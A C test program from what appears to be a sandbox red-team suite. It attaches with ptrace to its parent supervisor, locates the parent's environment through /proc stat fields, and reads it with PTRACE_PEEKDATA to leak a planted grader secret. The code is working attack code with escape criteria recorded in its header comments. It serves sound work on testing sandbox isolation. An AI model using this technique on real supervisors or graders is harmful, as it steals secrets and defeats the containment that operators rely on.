// attack: ptrace_parent
// round: 1 (DESIGN.md red team) - read the grader's secrets out of the supervisor's memory
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// evidence: PTRACE_ATTACH to the parent succeeds and PEEKDATA of its environment returns the planted secret
// escaped-if: secret_leaked || ev ptrace_attached
#include "attack.h"
#include <sys/ptrace.h>

static unsigned long stat_field(pid_t pid, int field)
{
	char p[64], buf[4096];
	snprintf(p, sizeof p, "/proc/%d/stat", pid);
	int fd = open(p, O_RDONLY);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	char *s = strrchr(buf, ')');
	if (!s)
		return 0;
	/* field 3 starts after ") " */
	int f = 3;
	for (char *t = strtok(s + 2, " "); t; t = strtok(NULL, " "), f++)
		if (f == field)
			return strtoul(t, NULL, 10);
	return 0;
}

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	pid_t pp = getppid();
	if (ptrace(PTRACE_ATTACH, pp, 0, 0) != 0) {
		say("attach %d: %s\n", pp, strerror(errno));
		return 1;
	}
	canary("ptrace_attached", "yes\n");
	int st;
	waitpid(pp, &st, __WALL);
	unsigned long a = stat_field(pp, 50), e = stat_field(pp, 51);
	say("env %lx-%lx\n", a, e);
	if (e > a && e - a < 1 << 20) {
		char *buf = malloc(e - a + 8);
		size_t n = 0;
		for (unsigned long p = a; p < e; p += sizeof(long)) {
			errno = 0;
			long w = ptrace(PTRACE_PEEKDATA, pp, p, 0);
			if (errno)
				break;
			memcpy(buf + n, &w, sizeof w);
			n += sizeof w;
		}
		for (size_t i = 0; i < n; i++)
			if (!buf[i])
				buf[i] = '\n';
		say("PEEKED:\n");
		if (write(1, buf, n) < 0) {}
		say("\n");
	}
	ptrace(PTRACE_DETACH, pp, 0, 0);
	return 0;
}
